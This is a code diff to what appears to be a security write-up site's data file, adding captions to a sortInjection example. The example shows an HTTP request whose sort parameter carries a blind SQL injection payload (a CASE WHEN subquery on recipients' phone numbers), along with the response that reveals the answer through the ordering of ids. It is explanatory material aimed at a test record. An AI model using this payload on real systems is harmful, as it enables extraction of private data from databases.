@@ -38,10 +38,11 @@ export const sortInjection: WriteUp = {
       'Request',
       `
 GET /v1/batches/8801/parcels?sort={-(CASE+WHEN+(SELECT+left(phone,1)-}
-    {-+FROM+recipients+WHERE+id=90412)='%2B'+THEN+id+ELSE+-id+END)-} HTTP/1.1
+    {-+FROM+recipients+WHERE+id=90412)='%2B'+THEN+id+ELSE+-id+END)-} HTTP/1.1 {#1}
 Host: track.logistics.example
 Accept: application/json
 `,
+      ['a question in place of a column'],
     ),
     response: code(
       'http',
@@ -50,8 +51,9 @@ Accept: application/json
 HTTP/1.1 200 OK
 Content-Type: application/json
 
-{"parcels":{+[{"id":551001},{"id":551002},{"id":551003}]+}}
+{"parcels":{+[{"id":551001},{"id":551002},{"id":551003}]+}} {#2}
 `,
+      ['ascending: the answer is yes'],
     ),
     note: 'The line break in the address is ours. Ascending ids mean yes: the phone number starts with a plus sign. Descending ids mean no. Recipient 90412 is our own test record.',
   },
